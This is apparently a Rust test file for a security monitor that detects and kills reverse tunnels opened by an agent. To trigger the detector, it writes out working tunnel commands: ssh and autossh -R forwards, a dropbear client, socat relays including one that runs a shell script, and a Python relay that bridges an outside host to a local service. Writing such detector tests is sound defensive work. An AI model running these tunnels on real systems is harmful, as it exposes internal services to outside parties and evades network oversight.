//! `reverse-tunnel`: found by behaviour, whatever the tool, with the first relayed connection.

use anyhow::{Result, ensure};

use crate::{
    outside::Outside,
    support::{Agent, Outcome, Place, echo, port},
    tests,
};

tests! {
    openssh needs "ssh", "sshd";
    autossh needs "autossh", "sshd";
    dropbear needs "dbclient", "dropbearconvert", "sshd";
    python_relay needs "/usr/bin/python3";
    socat_relay needs "socat";
    socat_with_a_child needs "socat";
    ssh_to_where_the_policy_forbids needs "ssh", "sshd";
    a_policy_that_only_observes needs "socat";
}

/// Waits for a connection from inside, sends two words by it with a pause, and prints the answers.
const OPERATOR: &str = "
import socket, sys, time
s = socket.socket(); s.setsockopt(1, 2, 1); s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(1)
c, _ = s.accept(); c.settimeout(5); time.sleep(.5)
try:
    for word in [b'probe one\\n', b'probe two\\n']:
        c.sendall(word); print(c.recv(100), flush=True); time.sleep(.3)
except OSError: pass
";

fn is_tunnel(outcome: &Outcome, program: &str) -> Result<()> {
    let finding = outcome.is_killed("reverse-tunnel")?;
    ensure!(finding["severity"] == "critical", "{finding}");
    let exe = finding["process"]["exe"].as_str().unwrap_or_default();
    ensure!(exe.contains(program), "{exe} is not {program}");
    ensure!(finding["techniques"][0]["id"] == "T1572", "{finding}");
    Ok(())
}

/// Runs an SSH client in the agent, with a shell command that has HOST, REMOTE and LOCAL in it.
fn ssh_client(client: &str, program: &str) -> Result<()> {
    let place = Place::new()?;
    let outside = Outside::with_sshd(&place)?;
    let (remote, local) = (port(), port());
    let _service = echo(local)?;
    let visitor = outside.visitor(remote)?;
    let command = client
        .replace("HOST", &outside.address)
        .replace("FORWARD", &format!("{remote}:127.0.0.1:{local}"))
        .replace("OPTIONS", &Outside::ssh_options(&place))
        .replace("DBKEY", &place.text("dbkey"));
    if client.contains("DBKEY") {
        let converted = std::process::Command::new("dropbearconvert")
            .args([
                "openssh",
                "dropbear",
                &place.text("key"),
                &place.text("dbkey"),
            ])
            .output()?;
        ensure!(converted.status.success(), "dropbearconvert");
    }
    let outcome = Agent::new(&place).sh(&format!("echo working; {command}; sleep 30"))?;
    is_tunnel(&outcome, program)?;
    ensure!(
        outcome.stdout == "working\n",
        "stdout: {:?}",
        outcome.stdout
    );
    // It was the visitor's coming that decided: before, there is a session and no more.
    let connects = outcome.events("connect")?;
    let inward = connects
        .iter()
        .filter(|event| event["remote_port"] == local)
        .count();
    ensure!(inward == 1, "{inward} connections inward: {connects:#?}");
    drop(visitor);
    Ok(())
}

fn openssh() -> Result<()> {
    ssh_client("ssh OPTIONS -N -R FORWARD root@HOST", "ssh")
}

fn autossh() -> Result<()> {
    ssh_client(
        "AUTOSSH_GATETIME=0 autossh -M 0 OPTIONS -N -R FORWARD root@HOST",
        "ssh",
    )
}

fn dropbear() -> Result<()> {
    ssh_client(
        "dbclient -y -i DBKEY -N -R FORWARD root@HOST 2>/dev/null",
        "dbclient",
    )
}

/// Runs a relay in the agent, between an operator outside and an echo server inside.
fn relay(
    options: &[(&str, &str)],
    script: impl Fn(&Place, &str, &str, &str) -> Result<String>,
) -> Result<(Outcome, Place)> {
    let place = Place::new()?;
    let outside = Outside::new()?;
    let (out, local) = (port().to_string(), port());
    let _service = echo(local)?;
    let operator = outside.python(OPERATOR, &[&outside.address, &out])?;
    let script = script(&place, &outside.address, &out, &local.to_string())?;
    let mut agent = Agent::new(&place);
    for (option, value) in options {
        let value = value.replace("PLACE", &place.text(""));
        agent = agent.with(option, &value);
    }
    std::fs::write(
        place.path("observe.yaml"),
        "apiVersion: agentwatch/v1\nkind: Policy\nmode: observe\n",
    )?;
    // The operator may not listen yet.
    let outcome = agent.sh(&format!("sleep 1; {script}"))?;
    let answers = operator.finish()?;
    ensure!(
        answers.contains("probe one"),
        "nothing was relayed: {answers:?} {}",
        outcome.stderr
    );
    Ok((outcome, place))
}

fn python_relay() -> Result<()> {
    let (outcome, _place) = relay(&[], |place, address, out, local| {
        let name = place.file(
            "work/sync.py",
            "import socket, sys\n\
             a = socket.create_connection((sys.argv[1], int(sys.argv[2])))\n\
             b = None\n\
             while True:\n\
             \x20   data = a.recv(65536)\n\
             \x20   if not data: break\n\
             \x20   b = b or socket.create_connection(('127.0.0.1', int(sys.argv[3])))\n\
             \x20   b.sendall(data)\n\
             \x20   a.sendall(b.recv(65536))\n",
        )?;
        Ok(format!("/usr/bin/python3 {name} {address} {out} {local}"))
    })?;
    is_tunnel(&outcome, "python3")
}

fn socat_relay() -> Result<()> {
    let (outcome, _place) = relay(&[], |_, address, out, local| {
        Ok(format!("socat TCP:{address}:{out} TCP:127.0.0.1:{local}"))
    })?;
    is_tunnel(&outcome, "socat")
}

fn socat_with_a_child() -> Result<()> {
    let (outcome, _place) = relay(&[], |place, address, out, local| {
        place.file(
            "work/inner.sh",
            &format!("exec socat - TCP:127.0.0.1:{local}\n"),
        )?;
        Ok(format!("socat TCP:{address}:{out} EXEC:'sh inner.sh'"))
    })?;
    is_tunnel(&outcome, "socat")
}

fn ssh_to_where_the_policy_forbids() -> Result<()> {
    let place = Place::new()?;
    let outside = Outside::with_sshd(&place)?;
    let policy = place.file(
        "policy.yaml",
        "apiVersion: agentwatch/v1\nkind: Policy\ndestinations:\n  allow: [\"192.0.2.0/24\"]\n",
    )?;
    let options = Outside::ssh_options(&place);
    let outcome = Agent::new(&place)
        .with("--policy", &policy)
        .sh(&format!("ssh {options} root@{} sleep 20", outside.address))?;
    let finding = outcome.is_killed("reverse-tunnel")?;
    ensure!(finding["severity"] == "high", "{finding}");
    ensure!(
        finding["message"].to_string().contains(&outside.address),
        "{finding}"
    );
    Ok(())
}

fn a_policy_that_only_observes() -> Result<()> {
    let (outcome, _place) = relay(
        &[("--policy", "PLACEobserve.yaml")],
        |_, address, out, local| {
            Ok(format!(
                "socat TCP:{address}:{out} TCP:127.0.0.1:{local}; exit 5"
            ))
        },
    )?;
    ensure!(
        outcome.status == Some(5),
        "{:?} {}",
        outcome.status,
        outcome.stderr
    );
    ensure!(outcome.findings.len() == 1, "{:#?}", outcome.findings);
    let response = &outcome.findings[0]["response"];
    ensure!(
        response["requested"] == "kill" && response["taken"] == "alert",
        "{response}"
    );
    ensure!(
        response["reason"].to_string().contains("observes"),
        "{response}"
    );
    Ok(())
}
